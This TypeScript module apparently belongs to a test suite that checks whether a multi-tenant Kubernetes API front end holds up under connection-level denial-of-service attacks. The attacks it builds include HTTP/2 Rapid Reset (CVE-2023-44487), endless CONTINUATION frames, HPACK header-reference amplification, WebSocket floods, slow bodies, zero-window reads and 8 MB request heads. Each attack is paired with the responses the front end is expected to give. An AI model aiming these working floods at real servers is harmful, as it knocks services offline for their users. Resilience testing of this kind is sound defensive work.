import { randomBytes } from 'node:crypto';
import { type ClientHttp2Session, connect } from 'node:http2';
import { setTimeout as pause } from 'node:timers/promises';
import {
  connectionPreface,
  frameFlag,
  frameType,
  headerBlock,
  hpackText,
  http2Frame,
} from '../../harness/network/http2-frames.ts';
import { type Attack, configMaps, numbered, repeatWork } from './attack.ts';
import { large } from './load-attacks.ts';
import { sendParts } from './raw-frames.ts';
import type { Response, Tenant } from './tenant.ts';

/** A WebSocket frame of a client with an empty payload, masked with zeros. */
const emptyFrame = (opcode: number) => Buffer.from([opcode, 0x80, 0, 0, 0, 0]);
const times = (count: number, bytes: Buffer) => Buffer.concat(Array<Buffer>(count).fill(bytes));

/** Floods of WebSocket frames: pings, fragments of a message, a frame of 2^62 bytes, and noise. */
const webSocketFloods: readonly Buffer[] = [
  times(100_000, emptyFrame(0x89)),
  Buffer.concat([emptyFrame(0x01), times(100_000, emptyFrame(0x00))]),
  Buffer.from([0x82, 0xff, 0x40, 0, 0, 0, 0, 0, 0, 0, 1, 2, 3, 4]),
  randomBytes(500_000),
];

const upgradeRequest = ({ key }: Tenant, path: string, protocol: string) =>
  Buffer.from(
    `GET ${path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nConnection: Upgrade\r\nUpgrade: ${protocol}\r\n` +
      `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: ${randomBytes(16).toString('base64')}\r\n\r\n`,
  );

async function floodWebSocket(tenant: Tenant, number: number): Promise<Response> {
  const request = upgradeRequest(tenant, `${tenant.inside}${configMaps}?watch=1&timeoutSeconds=2`, 'websocket');
  return sendParts(tenant, 'http/1.1', [request, webSocketFloods[number % webSocketFloods.length] ?? request]);
}

/** The paths at which Kubernetes upgrades connections. The virtual clusters of the test have no pods. */
const streams = ['exec?command=x', 'attach', 'portforward?ports=80', 'proxy/'];

async function requestUpgrade(tenant: Tenant, number: number): Promise<Response> {
  const path = `${tenant.inside}/api/v1/namespaces/default/pods/x/${streams[number % streams.length]}`;
  return sendParts(tenant, 'http/1.1', [upgradeRequest(tenant, path, number % 2 === 0 ? 'SPDY/3.1' : 'websocket')]);
}

const http2Request = ({ key }: Tenant, path: string) =>
  headerBlock({
    ':method': 'GET',
    ':scheme': 'https',
    ':authority': 'x',
    ':path': path,
    authorization: `Bearer ${key}`,
  });

/** CVE-2023-44487: each request is cancelled immediately. */
function* rapidResets(tenant: Tenant): Generator<Buffer> {
  const headers = http2Request(tenant, `${tenant.inside}${configMaps}?limit=1`);
  const cancel = Buffer.from([0, 0, 0, 8]);
  yield connectionPreface();
  for (let stream = 1; stream < 100_000; stream += 2) {
    yield Buffer.concat([
      http2Frame(frameType.headers, frameFlag.endHeaders | frameFlag.endStream, stream, headers),
      http2Frame(frameType.reset, 0, stream, cancel),
    ]);
  }
}

/** Headers that never end. */
function* endlessHeaders(tenant: Tenant): Generator<Buffer> {
  const more = headerBlock(Object.fromEntries(numbered(100, (number) => [`x-${number}`, 'v'.repeat(100)])));
  yield connectionPreface();
  yield http2Frame(frameType.headers, frameFlag.endStream, 1, http2Request(tenant, '/'));
  for (let count = 0; count < 2_000; count++) yield http2Frame(frameType.continuation, 0, 1, more);
}

/** A header of 4 kB in the dynamic table of HPACK, and further bytes that each refer to this header. */
function* referringHeaders(tenant: Tenant): Generator<Buffer> {
  const indexed = Buffer.concat([Buffer.from([0x40]), hpackText('x'), hpackText('v'.repeat(4_000))]);
  const references = Buffer.alloc(11_000, 0xbe);
  yield connectionPreface();
  for (let stream = 1; stream < 400; stream += 2) {
    const block = Buffer.concat([http2Request(tenant, '/'), indexed, references]);
    yield http2Frame(frameType.headers, frameFlag.endHeaders | frameFlag.endStream, stream, block);
  }
}

const http2Floods = [rapidResets, endlessHeaders, referringHeaders];

/** Keeps the streams of an HTTP/2 connection open for a second. */
async function holdStreams(
  tenant: Tenant,
  open: (session: ClientHttp2Session) => void,
  settings: { readonly initialWindowSize?: number } = {},
): Promise<Response> {
  const session = connect(tenant.url, { ca: tenant.ca, settings });
  session.on('error', () => {});
  open(session);
  await pause(1_000);
  session.destroy();
  return { status: 0, text: '' };
}

const slowBodies = (tenant: Tenant) =>
  holdStreams(tenant, (session) => {
    for (let count = 0; count < 200; count++) {
      const stream = session.request({
        ':method': 'POST',
        ':path': `${tenant.inside}${configMaps}`,
        authorization: `Bearer ${tenant.key}`,
        'content-type': 'application/json',
        'content-length': '1000000',
      });
      stream.on('error', () => {});
      stream.write('{');
    }
  });

const unreadLists = (tenant: Tenant) =>
  holdStreams(
    tenant,
    (session) => {
      for (let count = 0; count < 50; count++) {
        const stream = session.request({ ':path': `${tenant.inside}${large}`, authorization: `Bearer ${tenant.key}` });
        stream.on('error', () => {});
      }
    },
    { initialWindowSize: 0 },
  );

/** Requests of 8 MB with a long path, a long header, many headers, or many chunks. */
const longHeads: readonly ((tenant: Tenant) => string)[] = [
  () => `GET /${'a'.repeat(8_000_000)} HTTP/1.1\r\nHost: x\r\n\r\n`,
  () => `GET / HTTP/1.1\r\nHost: x\r\nX-Long: ${'a'.repeat(8_000_000)}\r\n\r\n`,
  () => `GET / HTTP/1.1\r\nHost: x\r\n${'a:b\r\n'.repeat(1_600_000)}\r\n`,
  ({ key }) =>
    `POST / HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nTransfer-Encoding: chunked\r\n\r\n${'1;x=y\r\na\r\n'.repeat(700_000)}`,
];

const sendLongHead = (tenant: Tenant, number: number) =>
  sendParts(tenant, 'http/1.1', [Buffer.from(longHeads[number % longHeads.length]?.(tenant) ?? '')]);

/** The attacker waits at most a second for a response. */
const noResponse = { status: 0 };

/** These attacks run after `loadAttacks`, which create the large objects. */
export const connectionAttacks: readonly Attack[] = [
  {
    name: 'paths, headers and tiny chunks of 8 MB',
    run: repeatWork({ times: 24, atOnce: 8 }, sendLongHead),
    expected: [{ status: 431 }, { status: 404 }, { status: 413 }, { status: 400 }, noResponse],
    isLong: true,
  },
  {
    name: 'WebSocket watches with floods of pings, fragments and noise',
    run: repeatWork({ times: 24, atOnce: 12 }, floodWebSocket),
    expected: [{ status: 101 }, { status: 429 }, noResponse],
    isLong: true,
  },
  {
    name: '300 upgrades to exec, attach, portforward and proxy',
    run: repeatWork({ times: 300, atOnce: 50 }, requestUpgrade),
    expected: [{ status: 404 }, { status: 429 }, noResponse],
    isLong: true,
  },
  {
    name: 'HTTP/2 connections with reset streams, endless headers and header references',
    run: repeatWork({ times: 24, atOnce: 12 }, (tenant, number) =>
      sendParts(tenant, 'h2', (http2Floods[number % http2Floods.length] ?? rapidResets)(tenant)),
    ),
    expected: [noResponse],
    isLong: true,
  },
  {
    name: '1,000 request bodies over HTTP/2 that never arrive',
    run: repeatWork({ times: 5, atOnce: 5 }, slowBodies),
    expected: [noResponse],
    isLong: true,
  },
  {
    name: '200 lists of 9 MB over HTTP/2 without a window',
    run: repeatWork({ times: 4, atOnce: 4 }, unreadLists),
    expected: [noResponse],
    isLong: true,
  },
];
